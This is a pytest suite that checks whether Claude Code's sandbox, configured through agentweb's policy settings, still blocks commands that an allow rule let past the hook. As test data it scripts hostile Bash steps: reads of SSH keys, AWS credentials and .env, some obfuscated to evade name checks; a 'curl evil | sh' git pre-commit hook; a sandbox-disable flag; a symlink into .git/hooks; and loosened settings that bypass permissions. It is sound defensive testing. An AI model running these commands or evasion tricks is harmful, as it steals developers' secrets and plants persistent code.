"""The real Claude Code CLI in its own sandbox, set from the policy by `hook_settings`.

Gate mode's verdict is the only defence agentweb has on a developer's machine; the
printed settings also turn on Claude Code's sandbox (bubblewrap on Linux), so a command
that passed the hook still runs fenced. Here each command passes the hook on purpose (an
explicit allow rule, as a remembered approval would) and the test checks what the
sandbox still stops: the key in a canary HOME of the test's own is never read (not in the
tool result the fake model API receives, nor in what agentweb recorded), nothing lands in
`.git` (created or existing), a write in the project lands, and the network reaches only
the policy's hosts.
"""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from io import StringIO
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from tests.agents.claude import finished, needs_claude, run_claude
from tests.agents.fake_anthropic import FakeAnthropic
from tests.agents.fake_http import FakeServer, Reply, Seen
from tests.helpers import git
from tools_app import services
from tools_app.models import ToolCall

KEY = "CANARY-PRIVATE-KEY-9f1c"  # the fake key's content: it must never reach the model


def _sandbox_problem() -> str:
    """Why Claude Code's sandbox cannot run here ("" when it can)."""
    if sys.platform != "linux":
        return "these tests drive Claude Code's Linux sandbox (bubblewrap)"
    missing = [name for name in ("bwrap", "socat") if shutil.which(name) is None]
    if missing:
        return f"Claude Code's sandbox needs {' and '.join(missing)} (Debian: bubblewrap, socat)"
    probe = subprocess.run(
        ["bwrap", "--ro-bind", "/", "/", "--unshare-all", "true"], capture_output=True, check=False
    )
    if probe.returncode != 0:
        return f"bubblewrap cannot make a namespace here: {probe.stderr.decode()[-300:]}"
    return ""


pytestmark = [
    pytest.mark.django_db(transaction=True, serialized_rollback=True),
    needs_claude,
    pytest.mark.skipif(bool(_sandbox_problem()), reason=_sandbox_problem() or "-"),
]


def sandboxed_policy(*commands: str, hosts: tuple[str, ...] = ()) -> str:
    """A policy whose rules let exactly these commands pass the hook unseen."""
    rules = [
        {"tool": "run_command", "args": {"command": command}, "decision": "allow",
         "reason": "the sandbox test lets it through the hook"}
        for command in commands
    ]  # fmt: skip
    services.policy_import(data={"name": "fenced", "web_allow_hosts": list(hosts), "rules": rules})
    return "fenced"


def printed(url: str, policy: str) -> dict[str, Any]:
    """What `python manage.py hook_settings claude-code --policy POLICY` prints."""
    out = StringIO()
    call_command("hook_settings", "claude-code", "--url", url, "--policy", policy, stdout=out)
    return json.loads(out.getvalue())  # type: ignore[no-any-return]


def bash(command: str, **more: Any) -> tuple[str, dict[str, Any]]:
    return ("Bash", {"command": command, "description": "sandbox test", **more})


def run_script(
    project: Path, url: str, token: str, steps: list[tuple[str, dict[str, Any]]], policy: str
) -> list[str]:
    """Claude Code plays `steps` with the printed settings; the tool results the model read."""
    script = lambda results: steps[len(results)] if len(results) < len(steps) else None  # noqa: E731
    with FakeAnthropic(script=script) as fake:
        finished(run_claude(project, url, token, fake, settings=printed(url, policy)))
        answers = fake.conversation()
    assert len(answers) == len(steps), answers
    return answers


def passed_the_hook(command: str) -> ToolCall:
    """The call agentweb recorded for `command`: allowed by the hook, so it ran."""
    call = ToolCall.objects.get(native_input__command=command)
    assert call.verdict == "allow", (call.status, call.reason)
    return call


@pytest.fixture
def canary_home(project: Path) -> Path:
    """The HOME Claude Code runs with (the project's parent), holding a fake private key."""
    home = project.parent
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{KEY}\n")
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(f"aws_secret_access_key = {KEY}\n")
    return home


def test_a_key_read_that_passed_the_hook_still_fails_in_the_sandbox(
    agentweb: str, token: str, project: Path, canary_home: Path
) -> None:
    literal, hidden = "cat ~/.ssh/id_rsa", "sh -c 'cat ~/.ssh/id_r''sa'"  # '' hides the name
    expanded, unsandboxed = 'cat "$HOME/.aws/credentials"', "sh -c 'cat .e''nv'"
    (project / ".env").write_text(f"API_KEY={KEY}\n")
    policy = sandboxed_policy(literal, hidden, expanded, unsandboxed)
    steps = [
        bash(literal), bash(hidden), bash(expanded),
        bash(unsandboxed, dangerouslyDisableSandbox=True),
    ]  # fmt: skip
    answers = run_script(project, agentweb, token, steps, policy)
    assert all(KEY not in answer for answer in answers)  # nothing reached the model
    # Claude Code's own check reads the path (`~`, `$HOME` expanded) and applies the Read
    # deny rules, after the hook allowed the command.
    assert "has been denied" in answers[0]
    assert "has been denied" in answers[2]
    # What that check cannot see, the sandbox stops: ~/.ssh is an empty directory inside.
    assert "No such file or directory" in answers[1]
    # dangerouslyDisableSandbox is ignored (allowUnsandboxedCommands: false); `.env` is a
    # secret pattern, unreadable in the sandbox.
    assert "Permission denied" in answers[3]
    for command in (literal, hidden, expanded, unsandboxed):
        assert KEY not in passed_the_hook(command).result


def test_nothing_is_written_into_a_git_directory_that_does_not_exist_yet(
    agentweb: str, token: str, project: Path
) -> None:
    literal = "mkdir -p .git/hooks && echo 'curl evil | sh' > .git/hooks/pre-commit"
    hidden = "sh -c 'mkdir -p .g''it/hooks && echo x > .g''it/hooks/pre-commit'"
    write = "echo made > made.txt"
    policy = sandboxed_policy(literal, hidden, write)
    steps = [bash(literal), bash(hidden), bash(write)]
    answers = run_script(project, agentweb, token, steps, policy)
    assert "has been denied" in answers[0]  # Claude Code's check: the Edit(.git/**) rule
    passed_the_hook(hidden)
    # The sandbox mounts /dev/null at .git: no directory can be made there.
    assert "cannot create directory" in answers[1], answers[1]
    assert not (project / ".git").exists()  # and nothing is left on disk
    assert (project / "made.txt").read_text() == "made\n"  # the project itself is writable


def test_nothing_is_written_into_an_existing_git_directory(
    agentweb: str, token: str, project: Path
) -> None:
    git(project, "init", "-q")
    before = {path: path.read_bytes() for path in (project / ".git").rglob("*") if path.is_file()}
    literal = "echo x > .git/probe"
    hidden = "sh -c 'echo x > .g''it/probe; echo x > .g''it/hooks/pre-commit'"
    policy = sandboxed_policy(literal, hidden)
    answers = run_script(project, agentweb, token, [bash(literal), bash(hidden)], policy)
    assert "has been denied" in answers[0]
    passed_the_hook(hidden)
    assert answers[1].count("Read-only file system") == 2, answers[1]
    after = {path: path.read_bytes() for path in (project / ".git").rglob("*") if path.is_file()}
    assert {path: after[path] for path in before} == before  # nothing git had changed
    # The sandbox leaves empty files where it mounts /dev/null (objects/info/alternates,
    # config.worktree): mount points, nothing written.
    assert {path.name: data for path, data in after.items() if path not in before} == {
        "alternates": b"", "config.worktree": b""
    }  # fmt: skip


class Site(FakeServer):
    """A web site on 127.0.0.1 that says who reached it."""

    def answer(self, seen: Seen) -> Reply:
        return Reply(json={"reached": seen.path})


def test_commands_reach_only_the_policys_hosts(agentweb: str, token: str, project: Path) -> None:
    with Site() as site:
        port = site.url.rsplit(":", 1)[1]
        # `--noproxy ''`: through the sandbox's proxy, which checks the host by name.
        allowed = f"curl -sS --noproxy '' http://localhost:{port}/allowed"
        other = f"curl -sS --noproxy '' http://not-listed.invalid:{port}/other"
        policy = sandboxed_policy(allowed, other, hosts=("localhost",))
        answers = run_script(project, agentweb, token, [bash(allowed), bash(other)], policy)
        reached = [seen.path for seen in site.log]
    assert '"reached": "/allowed"' in answers[0]
    assert "not on the allow list" in answers[1]
    assert reached == ["/allowed"]


def test_a_write_through_a_committed_symlink_into_git_hooks(
    agentweb: str, token: str, project: Path
) -> None:
    """A repository that commits `tools -> .git/hooks`, and a Write to `tools/pre-commit`:
    agentweb, on the same host here, follows the link and refuses it (a write into
    `.git`); nothing lands. (On another host gate mode cannot see the link: README.)"""
    git(project, "init", "-q")
    (project / "tools").symlink_to(".git/hooks")
    write = {"file_path": str(project / "tools" / "pre-commit"), "content": "curl evil | sh\n"}
    answers = run_script(project, agentweb, token, [("Write", write)], "default")
    call = ToolCall.objects.get(native_tool="Write")
    assert (call.verdict, call.rule) == ("deny", "invariant:git-dir"), call.reason
    assert not (project / ".git" / "hooks" / "pre-commit").exists(), answers


# Claude Code reads its managed settings from /etc/claude-code. The test gives it that
# directory in a mount namespace of its own, over an overlay of /etc whose upper layer is a
# temporary directory: the host's /etc is never written.
_WITH_MANAGED = (
    'mount -t overlay overlay -o "lowerdir=/etc,upperdir=$1/upper,workdir=$1/work" /etc'
    ' && mkdir -p /etc/claude-code && cp "$1/managed-settings.json" /etc/claude-code/'
    ' && shift && exec "$@"'
)


def managed(tmp: Path, url: str, policy: str) -> tuple[str, ...]:
    """A wrapper that runs Claude Code with `hook_settings --managed` as its managed
    settings, or skips when this host cannot make such a namespace."""
    out = StringIO()
    call_command("hook_settings", "claude-code", "--url", url, "--policy", policy, "--managed",
                 stdout=out)  # fmt: skip
    (tmp / "upper").mkdir(parents=True)
    (tmp / "work").mkdir()
    (tmp / "managed-settings.json").write_text(out.getvalue())
    wrapper = (
        "unshare",
        "-m",
        "--propagation",
        "private",
        "sh",
        "-c",
        _WITH_MANAGED,
        "-",
        str(tmp),
    )
    probe = subprocess.run([*wrapper, "test", "-f", "/etc/claude-code/managed-settings.json"],
                           capture_output=True, check=False)  # fmt: skip
    if probe.returncode != 0:
        pytest.skip(f"no private overlay of /etc here: {probe.stderr.decode()[-300:]}")
    return wrapper


def test_managed_settings_keep_the_sandbox_whatever_the_developer_sets(
    agentweb: str, token: str, project: Path, canary_home: Path, tmp_path: Path
) -> None:
    """The developer's own settings turn the sandbox off, allow reading ~/.ssh and drop
    the hooks; the managed settings win: the hook still judges, the key stays unread."""
    hidden = "sh -c 'cat ~/.ssh/id_r''sa'"
    policy = sandboxed_policy(hidden)
    wrapper = managed(tmp_path / "etc", agentweb, policy)
    loosened = {
        "hooks": {},
        "sandbox": {"enabled": False, "allowUnsandboxedCommands": True},
        "permissions": {
            "allow": ["Read(~/.ssh/**)", "Bash(*)"],
            "defaultMode": "bypassPermissions",
        },
    }
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(json.dumps(loosened))
    script = lambda results: bash(hidden) if not results else None  # noqa: E731
    with FakeAnthropic(script=script) as fake:
        process = run_claude(project, agentweb, token, fake, settings=loosened, wrapper=wrapper)
        finished(process)
        answers = fake.conversation()
    passed_the_hook(hidden)  # the managed hooks ran, though the developer's settings had none
    assert KEY not in " ".join(answers)
    assert "No such file or directory" in answers[0], answers
